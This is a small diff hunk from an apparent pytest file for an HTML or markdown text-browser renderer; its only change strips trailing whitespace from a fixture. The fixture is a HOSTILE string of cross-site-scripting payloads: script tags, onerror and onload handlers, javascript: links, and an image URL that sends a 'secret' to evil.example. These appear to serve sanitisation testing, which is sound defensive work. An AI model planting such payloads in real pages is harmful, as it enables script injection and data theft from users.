@@ -19,7 +19,7 @@ pytestmark = pytest.mark.skipif(not CHROMIUM, reason="HF_TEXT_BROWSER names no C
 HOSTILE = """
 <script>alert(1); document.title = "taken"</script>
 <img src=x onerror="alert(2)"><iframe src="https://evil.example/"></iframe>
-[link](javascript:alert(3)) ![picture](https://evil.example/?secret) 
+[link](javascript:alert(3)) ![picture](https://evil.example/?secret)
 <svg onload=alert(4)><a href="javascript:alert(5)">x</a>
 
 ```html
